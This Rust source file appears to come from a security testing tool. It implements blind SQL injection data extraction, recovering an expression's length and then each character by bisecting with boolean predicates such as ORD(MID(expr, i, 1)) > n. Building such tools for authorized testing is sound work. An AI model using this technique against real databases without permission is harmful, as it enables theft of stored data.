// Copyright (c) 2026 Bountyy Oy. All rights reserved.
//
// Scalar inference over a boolean channel
//
// Recovers the value of an expression one character at a time by bisecting
// over character codes: `ORD(MID((expr), i, 1)) > n`. The length is bisected
// first so the number of characters is known up front.

use super::{BooleanChannel, DecodeMode, Oracle};
use crate::errors::FingerprintResult;
use async_trait::async_trait;
use tracing::debug;

/// Default cap on inferred value length
pub const DEFAULT_MAX_LENGTH: u32 = 256;

/// Oracle that answers `evaluate_text` by bisection on a boolean channel
pub struct InferenceOracle<C> {
    channel: C,
    max_length: u32,
}

impl<C: BooleanChannel> InferenceOracle<C> {
    pub fn new(channel: C) -> Self {
        Self {
            channel,
            max_length: DEFAULT_MAX_LENGTH,
        }
    }

    pub fn with_max_length(mut self, max_length: u32) -> Self {
        self.max_length = max_length.max(1);
        self
    }

    pub fn channel(&self) -> &C {
        &self.channel
    }

    /// Smallest `v` in `[low, high]` for which `value > v` is false
    async fn bisect<F>(&self, mut low: u32, mut high: u32, predicate: F) -> FingerprintResult<u32>
    where
        F: Fn(u32) -> String + Send + Sync,
    {
        while low < high {
            let mid = low + (high - low) / 2;
            if self.channel.evaluate(&predicate(mid)).await? {
                low = mid + 1;
            } else {
                high = mid;
            }
        }

        Ok(low)
    }
}

#[async_trait]
impl<C: BooleanChannel> Oracle for InferenceOracle<C> {
    async fn evaluate(&self, predicate: &str) -> FingerprintResult<bool> {
        self.channel.evaluate(predicate).await
    }

    async fn evaluate_text(
        &self,
        expression: &str,
        mode: DecodeMode,
    ) -> FingerprintResult<Option<String>> {
        if self
            .channel
            .evaluate(&format!("ISNULL(({}))", expression))
            .await?
        {
            debug!("[Inference] {} is NULL", expression);
            return Ok(None);
        }

        let length = self
            .bisect(0, self.max_length, |n| {
                format!("LENGTH(({})) > {}", expression, n)
            })
            .await?;

        let (low, high) = mode.charset_bounds();
        let mut value = String::with_capacity(length as usize);

        for position in 1..=length {
            let code = self
                .bisect(low, high, |n| {
                    format!("ORD(MID(({}), {}, 1)) > {}", expression, position, n)
                })
                .await?;

            value.push(char::from_u32(code).unwrap_or('?'));
        }

        debug!(
            "[Inference] {} => '{}' ({} chars, mode={:?})",
            expression, value, length, mode
        );

        Ok(Some(value))
    }
}
